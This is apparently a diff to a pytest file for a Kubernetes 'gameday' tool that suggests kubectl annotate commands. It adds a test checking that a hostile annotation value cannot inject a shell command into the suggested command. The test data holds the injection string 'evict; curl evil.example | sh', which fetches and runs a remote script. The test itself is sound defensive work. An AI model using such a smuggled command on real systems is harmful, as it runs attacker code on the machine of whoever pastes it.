@@ -1,5 +1,6 @@
 """What the owners of a cluster allow: a table of annotations."""
 
+import shlex
 from typing import Any
 
 import pytest
@@ -100,3 +101,16 @@ def test_the_command_names_the_resource_of_a_kind_of_others() -> None:
     where = namespace(adopt="enabled")
     (said,) = refusals(["evict"], namespace=where, workload=raw, allow=None, resource="rollouts.argoproj.io")
     assert "kubectl annotate rollouts.argoproj.io chat -n llm --overwrite gameday.dev/allow=evict" in said
+
+
+def test_a_command_for_people_runs_nothing_that_an_annotation_holds() -> None:
+    """Whoever may annotate a workload, or a kubelet its own node, has nobody who copies the command run his words."""
+    evil = "evict; curl evil.example | sh #,node-drain"
+    node = {"kind": "Node", "metadata": {"name": "n1", "annotations": {"gameday.dev/allow": evil}}}
+    for words in (
+        told(["pod-kill"], namespace(adopt="enabled"), workload(evil)),
+        objections_of_node(node, "pool-drain"),
+    ):
+        command = shlex.split(words.partition("allow it with: ")[2])
+        assert command[:2] == ["kubectl", "annotate"]
+        assert command[-1].startswith(f"gameday.dev/allow={evil.partition(',')[0]},node-drain,")
